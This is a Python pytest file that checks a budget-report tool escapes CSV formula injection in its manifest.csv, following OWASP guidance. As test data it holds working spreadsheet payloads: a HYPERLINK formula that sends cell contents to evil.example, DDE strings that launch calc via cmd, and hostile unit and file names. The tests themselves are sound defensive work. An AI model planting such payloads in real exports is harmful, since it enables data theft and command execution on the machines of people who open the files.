"""Issue 13 item 3: manifest.csv cells are neutralised as OWASP's CSV-injection guidance says (a leading =, +, -,
@, tab or carriage return gets an apostrophe), tested with many variants, and the unit name stays readable."""
from __future__ import annotations

import csv
import itertools
import shutil

import openpyxl
import pytest

from budgetreport.batch import run_batch
from budgetreport.manifest import MANIFEST_COLUMNS, csv_cell, manifest_bytes
from conftest import SAMPLE

OWASP_LEADING = ["=", "+", "-", "@", "\t", "\r"]          # from the guidance, not from the code under test
PAYLOADS = ['HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)",
            '2+5+cmd|" /C calc"!A0', "单位", "", "=1", '"quoted", with comma', "line\r\nbreak"]
HARMLESS = ["昌吉市城市管理指挥中心", "1单位", " =1", "（=1）", "'=1", "单位=1", "＝全角等号", "a-b", "\n=1", "#REF!"]


def _expected(text: str) -> str:
    return "'" + text if text[:1] in OWASP_LEADING else text


@pytest.mark.parametrize("text", [lead + payload for lead, payload in itertools.product(OWASP_LEADING, PAYLOADS)]
                         + HARMLESS)
def test_each_cell_is_neutralised_and_still_readable(text):
    cell = csv_cell(text)
    assert cell == _expected(text)
    assert cell[:1] not in OWASP_LEADING
    assert cell.removeprefix("'") == text or text.startswith("'")


def test_a_whole_manifest_round_trips_through_csv():
    rows = [[lead + payload, lead + "单位", 2025, "成功", 0, lead + "原因", "默认模板", lead + "x.docx", "ab"]
            for lead, payload in itertools.product(OWASP_LEADING, PAYLOADS)]
    data = manifest_bytes(rows)
    assert data.startswith(b"\xef\xbb\xbf")
    parsed = list(csv.reader(data.decode("utf-8-sig").splitlines(keepends=True)))
    assert tuple(parsed[0]) == MANIFEST_COLUMNS
    for row, original in zip(parsed[1:], rows):
        assert row == [_expected(str(v)) for v in original]
        assert all(cell[:1] not in OWASP_LEADING for cell in row)


def _as_text(ws, label: str, value: str) -> None:
    """单位名称 typed as text (openpyxl would otherwise take a leading = for a formula)."""
    for row in ws.iter_rows(min_col=1, max_col=1):
        if row[0].value == label:
            cell = ws.cell(row=row[0].row, column=2)
            cell.value = value
            cell.data_type = "s"
            return
    raise KeyError(label)


HOSTILE_NAMES = ['=HYPERLINK("http://evil.example","点击")', "+1+1单位", "-2+3单位", "@SUM(1)单位",
                 "=cmd|' /C calc'!A0", "普通单位"]


def test_a_batch_of_hostile_unit_names(tmp_path):
    inputs = tmp_path / "in"
    inputs.mkdir()
    for i, name in enumerate(HOSTILE_NAMES):
        path = inputs / f"{i}.xlsx"
        shutil.copy(SAMPLE, path)
        wb = openpyxl.load_workbook(path)
        _as_text(wb["单位信息"], "单位名称", name)
        wb.save(path)
    (inputs / "=2+2.xlsx").write_bytes(b"not a workbook")      # a hostile file name, failing too
    report = run_batch(inputs, tmp_path / "out", jobs=2, pdf=False)
    raw = (tmp_path / "out" / "manifest.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(raw.splitlines(keepends=True)))
    assert len(rows) == len(HOSTILE_NAMES) + 1
    for row in rows:
        assert all(cell[:1] not in OWASP_LEADING for cell in row.values()), row
    names = {r["输入文件"]: r["单位名称"] for r in rows}
    for i, name in enumerate(HOSTILE_NAMES):
        assert names[f"{i}.xlsx"] == _expected(name)          # readable: the name after one apostrophe
    assert names["'=2+2.xlsx"] == ""
    built = {u.unit: u for u in report.units if u.unit}
    assert set(built) == set(HOSTILE_NAMES) and all(u.status != "失败" for u in built.values())
